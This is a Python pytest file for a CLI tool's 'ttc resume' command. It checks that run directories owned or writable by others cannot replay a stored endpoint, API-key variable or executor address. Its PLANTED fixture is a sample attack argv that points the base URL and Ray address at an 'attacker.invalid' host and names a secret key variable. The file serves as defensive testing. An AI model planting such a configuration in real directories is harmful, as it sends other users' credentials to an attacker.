"""`ttc resume DIR` replays the command line stored in DIR: in a directory someone else made (or
may write), the endpoint, the key's variable and the executor address it names are not used
unless given again, so a planted `--api-key-env SECRET --base-url http://attacker` never sends
the resuming user's secret anywhere. Refused in one line naming what to pass."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from ttc.engine.cli._main import _parse

PLANTED = [
    "run",
    "--provider",
    "openai",
    "--model",
    "m",
    "--limit",
    "2",
    "--base-u",
    "http://attacker.invalid/v1",  # an abbreviation argparse takes
    "--api-key-env",
    "SOME_SECRET",
    "--executor",
    "ray",
    "--ray-address",
    "attacker.invalid:6379",
]


def _run_dir(tmp_path: Path, argv: list[str] = PLANTED) -> Path:
    run = tmp_path / "run"
    run.mkdir()
    config = {"invocation": {"argv": argv, "cwd": str(tmp_path)}}
    (run / "config.json").write_text(json.dumps(config))
    (run / "journal.jsonl").write_text('{"ev": "run_start"}\n')
    for path in (run, run / "config.json"):
        path.chmod(0o755 if path.is_dir() else 0o644)
    return run


@pytest.fixture(autouse=True)
def _cwd(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.chdir(tmp_path)  # an accepted resume goes to the run's cwd


@pytest.mark.skipif(os.geteuid() != 0, reason="chown to another uid needs root")
def test_a_directory_of_another_user_is_refused_naming_what_to_pass(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run = _run_dir(tmp_path)
    os.chown(run, 12345, 12345)
    assert _parse(["resume", str(run)]) == 2  # before anything is sent or started
    err = capsys.readouterr().err
    assert err.count("\n") == 1  # one line
    assert f"{run} is owned by uid 12345, not by you" in err
    for flag in ("--base-url URL", "--api-key-env NAME", "--ray-address ADDRESS"):
        assert flag in err
    assert "attacker" not in err
    # config.json alone another's: the same.
    os.chown(run, 0, 0)
    os.chown(run / "config.json", 12345, 12345)
    assert isinstance(_parse(["resume", str(run)]), int)


def test_a_directory_others_may_write_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run = _run_dir(tmp_path)
    run.chmod(0o777)
    assert _parse(["resume", str(run)]) == 2
    assert f"{run} is writable by others" in capsys.readouterr().err
    run.chmod(0o755)
    (run / "config.json").chmod(0o666)
    assert _parse(["resume", str(run)]) == 2


def test_given_again_the_settings_come_from_the_command_line(tmp_path: Path) -> None:
    run = _run_dir(tmp_path)
    run.chmod(0o777)
    given = [
        "--base-url",
        "http://127.0.0.1:9/v1",
        "--api-key-env=MY_KEY",
        "--ray-address",
        "127.0.0.1:6379",
    ]
    parsed = _parse(["resume", str(run), *given])
    assert not isinstance(parsed, int)
    args, _ = parsed
    assert args.base_url == ["http://127.0.0.1:9/v1"]
    assert args.api_key_env == "MY_KEY"
    assert args.ray_address == "127.0.0.1:6379"


def test_ones_own_directory_goes_on_with_its_command_line(tmp_path: Path) -> None:
    run = _run_dir(tmp_path)
    parsed = _parse(["resume", str(run)])
    assert not isinstance(parsed, int)
    assert parsed[0].base_url == ["http://attacker.invalid/v1"]  # the user's own, as before


def test_a_stored_command_line_that_names_none_of_them_resumes_anywhere(tmp_path: Path) -> None:
    run = _run_dir(tmp_path, ["run", "--limit", "2", "--rounds", "1"])
    run.chmod(0o777)
    assert not isinstance(_parse(["resume", str(run)]), int)


def test_a_shared_limits_url_that_held_a_password_must_be_given_again() -> None:
    from ttc.engine._util import redact_argv
    from ttc.engine.cli._commands import withheld_credential
    from ttc.engine.cli._parser import build_parser

    stored = redact_argv(["run", "--shared-limits", "redis://:s3cret@127.0.0.1:6379/0"])
    assert "s3cret" not in " ".join(stored)
    parser = build_parser("run")
    assert withheld_credential(parser.parse_args(stored)) == "--shared-limits"
    plain = ["run", "--shared-limits", "redis://127.0.0.1:6379/0"]
    assert withheld_credential(parser.parse_args(plain)) is None


def test_a_run_and_a_batch_on_the_vendors_url_share_one_quota_key() -> None:
    from ttc.adapters.providers import VENDOR_URLS
    from ttc.engine.cli import build_parser
    from ttc.engine.send._shared import quota_key

    # `ttc batch` names OpenAI's URL by default; `ttc run` leaves it unset.
    default = build_parser("batch").parse_args(["batch", "in.jsonl", "--out", "o"]).base_url
    batch = quota_key("openai", default, "gpt-4o-mini", None)
    assert quota_key("openai", VENDOR_URLS["openai"], "gpt-4o-mini", None) == batch
